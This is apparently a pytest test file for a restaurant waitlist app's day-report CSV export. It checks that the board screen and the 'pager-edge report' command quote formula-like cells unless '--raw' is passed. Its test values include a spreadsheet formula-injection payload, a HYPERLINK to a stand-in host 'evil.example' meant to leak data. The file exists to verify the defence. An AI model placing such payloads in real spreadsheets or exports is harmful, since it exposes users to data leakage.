"""The day report's CSV: one writer for the board's report screen and `pager-edge report`, the
export's (spreadsheet-safe unless ``--raw``, RFC 4180 line ends).

The report's rows carry no guest text today (figures, hours, party sizes), so the hostile cells
here are put where a key goes: they stand for any text a report column may carry, and show that
both roads to the file go through the export's safety.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import subprocess
import sys
from datetime import date
from pathlib import Path

from click.testing import CliRunner

from agent.display import FORMULA_STARTS
from agent.export import report_csv
from agent.report import REPORT_FIELDS, DayReport, Group
from tests.board_fixtures import (
    SECRET_LABEL,
    ago,
    board_config,
    fixed_clock,
    make_store,
    view,
    wait_for,
)

HOSTILE = ('=HYPERLINK("http://evil.example/?leak","click me")', "+1", "-2", "@x")
DAY = date(2026, 3, 13)  # the pinned Friday (tests.board_fixtures.NOW)


def hostile_report() -> DayReport:
    return DayReport(
        day=DAY,
        parties=4,
        by_size=tuple(Group(key, 1, 1, 60.0) for key in HOSTILE),
    )


def keys(text: str) -> list[str]:
    """The `key` column of the party-size rows."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return [r["key"] for r in rows if r["section"] == "party_size"]


def test_the_report_writer_quotes_formula_cells_unless_raw():
    out = io.StringIO()
    assert report_csv(hostile_report(), out) == 1 + len(HOSTILE)
    text = out.getvalue()
    assert text.startswith(",".join(REPORT_FIELDS) + "\r\n")  # RFC 4180 line ends, as export
    assert keys(text) == ["'" + h for h in HOSTILE]
    assert not any(
        cell.startswith(FORMULA_STARTS) for row in csv.reader(io.StringIO(text)) for cell in row
    )
    raw = io.StringIO()
    report_csv(hostile_report(), raw, raw=True)
    assert keys(raw.getvalue()) == list(HOSTILE)


def _store(tmp_path: Path) -> Path:
    """The pinned evening, with guests whose labels are formulas (they are no report column)."""
    hostile = [
        view(f"h-{i}", 90 + i, label=label, party_size=2, created=ago(15), state="waiting")
        for i, label in enumerate(HOSTILE)
    ]
    from tests.board_fixtures import active_views

    return make_store(tmp_path / "agent.db", [*active_views(), *hostile])


def _config(tmp_path: Path, db: Path) -> Path:
    conf = tmp_path / "config.toml"
    conf.write_text(f'[store]\npath = "{db}"\n[controller]\ntimezone = "Europe/Paris"\n')
    return conf


def _report_cmd(*args: str) -> str:
    r = subprocess.run(
        [sys.executable, "-m", "pager_edge", "report", *args],
        capture_output=True,
        timeout=60,
    )
    assert r.returncode == 0, r.stderr
    return r.stdout.decode("utf-8")


async def test_the_report_screen_exports_what_pager_edge_report_writes(tmp_path):
    """The screen's Export CSV is the command's file, byte for byte, and spreadsheet-safe."""
    from tui.app import BoardApp
    from tui.screens.report import ReportScreen

    delivered: list[tuple[str, str]] = []

    class Delivering(BoardApp):
        """Keeps what the board hands to the terminal's (or browser's) downloads."""

        def deliver_text(self, path_or_file, *, save_filename=None, **kw):
            delivered.append((save_filename, path_or_file.read()))
            return None

    db = _store(tmp_path)
    conf = _config(tmp_path, db)
    app = Delivering(db, clock=fixed_clock(), config=board_config(db))
    async with app.run_test(size=(120, 40)) as pilot:
        await wait_for(lambda: app.snapshots_seen > 0)
        await pilot.press("d")
        await wait_for(lambda: isinstance(app.screen, ReportScreen) and app.screen.report)
        await pilot.press("x")  # Export CSV
        await wait_for(lambda: len(delivered) == 1)
        screen = app.screen
        assert isinstance(screen, ReportScreen)
        screen.report = hostile_report()  # any text a report carries
        screen.action_export()
        await wait_for(lambda: len(delivered) == 2)
    (name, text), (_name, hostile) = delivered
    assert name == "pager-edge-report-2026-03-13.csv"
    command = _report_cmd("--date", "2026-03-13", "--format", "csv", "--config", str(conf))
    assert text == command and text.splitlines()[1].startswith("day,2026-03-13,")
    assert SECRET_LABEL not in text and not any(h in text for h in HOSTILE)
    assert keys(hostile) == ["'" + h for h in HOSTILE]
    # --raw changes no cell of a report without text
    raw = _report_cmd("--date", "2026-03-13", "--format", "csv", "--raw", "--config", str(conf))
    assert raw == command


def test_pager_edge_report_csv_is_spreadsheet_safe_unless_raw(tmp_path, monkeypatch):
    import agent.report
    from pager_edge.cli import cli

    db = _store(tmp_path)
    conf = _config(tmp_path, db)
    real = agent.report.report_of_day
    # the real day, read from the store, with hostile text where a key goes
    monkeypatch.setattr(
        agent.report,
        "report_of_day",
        lambda store, day, zone: dataclasses.replace(
            real(store, day, zone), by_size=hostile_report().by_size
        ),
    )
    args = ["report", "--date", "2026-03-13", "--format", "csv", "--config", str(conf)]
    safe = CliRunner().invoke(cli, args)
    assert safe.exit_code == 0, safe.output
    assert keys(safe.output) == ["'" + h for h in HOSTILE]
    assert safe.output.splitlines()[1].startswith("day,2026-03-13,")
    raw = CliRunner().invoke(cli, [*args, "--raw"])
    assert raw.exit_code == 0, raw.output
    assert keys(raw.output) == list(HOSTILE)
